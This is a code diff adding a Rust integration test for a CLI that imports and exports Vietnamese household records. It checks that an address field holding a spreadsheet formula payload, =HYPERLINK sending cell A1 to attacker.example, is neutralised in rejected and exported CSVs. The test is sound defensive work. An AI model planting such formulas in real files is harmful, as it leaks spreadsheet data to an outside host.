@@ -367,3 +367,37 @@ fn a_config_file_sets_the_database_and_flags_override_it() {
     assert!(!o.status.success());
     assert!(text(&o).contains("cấu hình"), "{}", text(&o));
 }
+
+#[test]
+fn a_formula_stored_as_an_address_is_exported_and_rejected_as_text() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = sqlite(dir.path());
+    let payload = r#"=HYPERLINK("http://attacker.example/?d="&A1,"Xem")"#;
+    let households = dir.path().join("ho.csv");
+    let quoted = payload.replace('"', "\"\"");
+    std::fs::write(
+        &households,
+        format!("Mã hộ,Mã xã/phường,Địa chỉ\nHO-1,19900,\"{quoted}\"\nHO-2,99999,\"{quoted}\"\n"),
+    )
+    .unwrap();
+    let o = ansinh(
+        &db,
+        &[
+            "import",
+            "households",
+            households.to_str().unwrap(),
+            "--skip-bad-rows",
+        ],
+    );
+    assert!(o.status.success(), "{}", text(&o));
+    // The bad row (unknown commune) goes to the rejected CSV with its address neutralised.
+    let rejected = std::fs::read_to_string(dir.path().join("ho.loi.csv")).unwrap();
+    assert!(rejected.contains(&format!("\"'{quoted}\"")), "{rejected}");
+
+    let export = dir.path().join("x.csv");
+    let o = ansinh(&db, &["export", "households", export.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", text(&o));
+    let body = std::fs::read_to_string(&export).unwrap();
+    assert!(body.contains(&format!("\"'{quoted}\"")), "{body}");
+    assert!(!body.contains(&format!(",\"{quoted}\"")), "{body}");
+}
